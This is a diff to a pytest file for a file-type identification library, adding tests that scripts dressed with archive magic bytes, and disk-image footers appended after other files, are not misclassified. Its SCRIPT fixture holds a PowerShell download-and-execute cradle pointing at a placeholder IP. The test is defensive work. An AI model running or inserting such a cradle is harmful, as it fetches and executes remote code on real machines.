@@ -9,7 +9,7 @@ import pytest
 from identification import containers, kinds
 from samplebank.identification import Identification, Identifier
 from samplebank.identification.shapes import SHAPES
-from samplebank.identification.signatures import find_signature
+from samplebank.identification.signatures import find_signature, find_tail_type
 
 SHORT_MARKS = (
     b"\x60\xea", b"\xc7\x71", b"\x71\xc7", b"\x1f\x9d", b"\xff\xf1", b"\xff\xf9", b"\x5d\0\0", b"MZ", b"BZh", b"DOS\0", b"P6 ", b"070701",
@@ -61,6 +61,38 @@ def test_noise_has_no_shape() -> None:
 @pytest.mark.parametrize("times", [1, 700])
 def test_prose_is_no_container(text: bytes, times: int) -> None:
     assert find_signature(text * times) is None
+
+
+SCRIPT = b"\r\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\r\n"
+MARKED_SCRIPTS = {
+    "tar": b"#".ljust(257) + b"ustar",
+    "disk": b"#".ljust(54) + b"FAT16   ",
+    "kernel": b"#".ljust(56) + b"ARMd",
+    "metafile": b"#".ljust(40) + b" EMF",
+    "cpio": b"070707" + b"0" * 70,
+    "bzip2": b"BZh91AY&SY",
+    "zip": b"PK\x03\x04",
+    "picture": b"GIF89a=1;//",
+    "video": b"#G".ljust(188, b"G") * 5,
+}
+
+
+@pytest.mark.parametrize("mark", MARKED_SCRIPTS)
+@pytest.mark.parametrize("comment", ["", "# \u0442\u0435\u043a\u0441\u0442 " * 500], ids=["ASCII", "UTF-8"])
+def test_a_script_with_the_mark_of_an_archive_is_no_archive(mark: str, comment: str) -> None:
+    assert find_signature(MARKED_SCRIPTS[mark] + SCRIPT + comment.encode()) is None
+
+
+DISK_END = b"conectix\0\0\0\x02\0\x01\0\0".ljust(512, b"\0")
+
+
+@pytest.mark.parametrize(
+    "head",
+    [kinds.pe(), kinds.pdf(), kinds.zipped("a.exe"), SCRIPT],
+    ids=["program", "document", "zip", "script"],
+)
+def test_the_end_of_a_disk_image_behind_another_file_tells_nothing(head: bytes) -> None:
+    assert find_tail_type(head, DISK_END) is None
 
 
 @pytest.mark.parametrize(
